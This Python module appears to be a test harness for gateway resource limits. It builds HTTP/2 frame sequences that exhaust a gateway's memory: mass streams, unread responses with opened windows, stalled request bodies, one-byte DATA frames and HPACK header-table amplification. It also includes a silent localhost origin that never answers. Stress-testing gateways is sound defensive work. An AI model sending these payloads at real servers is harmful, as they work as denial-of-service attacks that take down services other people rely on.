"""Clients that hold what they can of a gateway's memory on one connection over HTTP/2, and origins that help them. Each is a
function that gives the frames in pieces; between them, what the gateway has sent is read, or not."""

import selectors
import socket
import struct
import threading

from attacks import (
    DATA, END_HEADERS, END_STREAM, GET, HEADERS, POST, SETTINGS, WINDOW_UPDATE, frame, text)

# As many streams as the gateway allows on one connection unless told.
STREAMS = 100
# What it lets a client send ahead on a stream.
STREAM_WINDOW = 65_536
ALL_WINDOWS = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7fff_ffff)) + frame(
    WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fff_0000))


def numbers():
    return (2 * number + 1 for number in range(STREAMS))


def requests(head, flags, more=b""):
    return b"".join(frame(HEADERS, END_HEADERS | flags, stream, head + more) for stream in numbers())


def streams(_):
    """Requests that wait for an answer."""
    yield requests(GET, END_STREAM)


def unread(_):
    """Answers for which there is no window but the first."""
    yield requests(GET, END_STREAM)


def unread_opened(_):
    """Answers for which there is all the window, and none of which is read."""
    yield ALL_WINDOWS + requests(GET, END_STREAM)


def bodies(window):
    """Bodies that wait for an origin, as far as the windows allow."""
    yield requests(POST, 0)
    left = window
    for stream in numbers():
        own = min(left, STREAM_WINDOW)
        left -= own
        while own > 0:
            piece = min(own, 16_384)
            yield frame(DATA, 0, stream, bytes(piece))
            own -= piece


def tiny_bodies(window):
    """The same in pieces of one byte, between which large ones make up for them."""
    yield requests(POST, 0)
    left = window
    for stream in numbers():
        own = min(left, STREAM_WINDOW)
        left -= own
        while own > 300:
            # What one of 16 KiB makes up for, as the h2 crate counts.
            piece = min(own - 64, 16_384)
            yield frame(DATA, 0, stream, bytes(piece)) + frame(DATA, 0, stream, b"x") * 60
            own -= piece + 60


def heads(_):
    """Heads that are as large as they may be: one field of 4 KB in the table, named fifteen times by each."""
    large = b"\x40" + text(b"x") + text(b"y" * 3_900)
    yield frame(HEADERS, END_HEADERS, 1, POST + large)
    # 62 is the newest field of the table.
    yield b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, POST + b"\xbe" * 15) for number in range(1, STREAMS))


def many_fields(_):
    """Heads of as many small fields as there may be."""
    yield requests(POST, 0, (b"\x00" + text(b"x") + text(b"y")) * 250)


ALL = {function.__name__: function for function in [streams, unread, unread_opened, bodies, tiny_bodies, heads, many_fields]}


class Silent:
    """Origins that take connections and never answer: over HTTP/1.1 reading nothing either, over HTTP/2 after their settings."""

    def __init__(self):
        self.ports, self.selector, self.held = {}, selectors.DefaultSelector(), []
        for name in ("http1", "http2"):
            listener = socket.create_server(("127.0.0.1", 0), backlog=4_096)
            listener.setblocking(False)
            self.ports[name] = listener.getsockname()[1]
            self.selector.register(listener, selectors.EVENT_READ, name)
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            for key, _ in self.selector.select():
                if key.data:
                    self.accept(key.fileobj, key.data)
                else:
                    self.drop(key.fileobj)

    def accept(self, listener, name):
        connection, _ = listener.accept()
        if name == "http1":
            # Kept, and not looked at.
            self.held.append(connection)
            return
        connection.sendall(frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
        self.selector.register(connection, selectors.EVENT_READ)

    def drop(self, connection):
        try:
            if connection.recv(65_536):
                return
        except OSError:
            pass
        self.selector.unregister(connection)
        connection.close()
